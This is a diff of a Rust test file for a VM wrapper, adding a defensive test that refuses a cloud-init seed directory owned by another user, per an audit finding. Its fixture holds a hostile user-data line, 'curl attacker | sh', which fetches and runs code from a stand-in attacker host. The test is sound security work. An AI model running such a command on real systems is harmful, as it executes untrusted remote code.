@@ -1,7 +1,7 @@
 //! vmwrapper's errors a user can act on, without a daemon.
 
 use std::process::Command;
-use tapmanager_tests::sandbox::{bin, is_root, Sandbox};
+use tapmanager_tests::sandbox::{as_user, bin, is_root, Sandbox, TestDir};
 
 #[test]
 fn daemon_not_running_names_the_socket_and_says_what_to_do() {
@@ -16,6 +16,50 @@ fn daemon_not_running_names_the_socket_and_says_what_to_do() {
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains(&sock.display().to_string()), "{err}");
     assert!(err.contains("is the daemon running?"), "{err}");
+}
+
+/// Audit finding 4: a seed directory another user made first (their `runcmd` in its
+/// user-data) is refused by the binary, with the real uid of the user who ran it, before it
+/// asks the daemon for anything (no daemon runs here).
+#[test]
+fn a_cloud_init_directory_another_user_made_is_refused_before_attaching() {
+    if !is_root("a_cloud_init_directory_another_user_made_is_refused_before_attaching") {
+        return;
+    }
+    const VICTIM: u32 = 47_161;
+    const ATTACKER: u32 = 47_162;
+    let attack = "#cloud-config\nruncmd: [\"curl attacker | sh\"]\n";
+    let tmp = TestDir::new("seed-theirs");
+    let seed = tmp.join("seed");
+    std::fs::create_dir(&seed).unwrap();
+    std::fs::write(seed.join("user-data"), attack).unwrap();
+    std::os::unix::fs::chown(seed.join("user-data"), Some(ATTACKER), Some(ATTACKER)).unwrap();
+    std::os::unix::fs::chown(&seed, Some(ATTACKER), Some(ATTACKER)).unwrap();
+
+    let out = as_user(VICTIM, "", &bin("vmwrapper"))
+        .arg("--socket")
+        .arg(tmp.join("no-daemon.sock"))
+        .arg("--cloud-init")
+        .arg(&seed)
+        .args(["--net", "default", "--", "qemu-system-x86_64"])
+        .output()
+        .unwrap();
+
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains(&format!(
+            "--cloud-init {}: is owned by uid {ATTACKER}, not you (uid {VICTIM})",
+            seed.display()
+        )),
+        "{err}"
+    );
+    assert!(!err.contains("daemon"), "refused before connecting: {err}");
+    assert_eq!(
+        std::fs::read_to_string(seed.join("user-data")).unwrap(),
+        attack
+    );
+    assert!(!seed.join("meta-data").exists());
 }
 
 #[test]
@@ -229,7 +273,9 @@ fn firecracker_opens_its_tap_by_name_as_the_caller_and_only_the_caller() {
     let sb = Sandbox::with_defaults("firecracker", GROUP);
     let dir = sb.dir.join("fc");
     std::fs::create_dir_all(&dir).unwrap();
-    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
+    // Sticky, like /tmp: vmwrapper refuses a cloud-init seed below a directory where others
+    // could rename the caller's seed and put theirs in its place.
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o1777)).unwrap();
     let config = dir.join("vm.json");
     let original = r#"{"boot-source": {"kernel_image_path": "/vmlinux"}, "machine-config": {"vcpu_count": 1, "mem_size_mib": 128}}"#;
     std::fs::write(&config, original).unwrap();
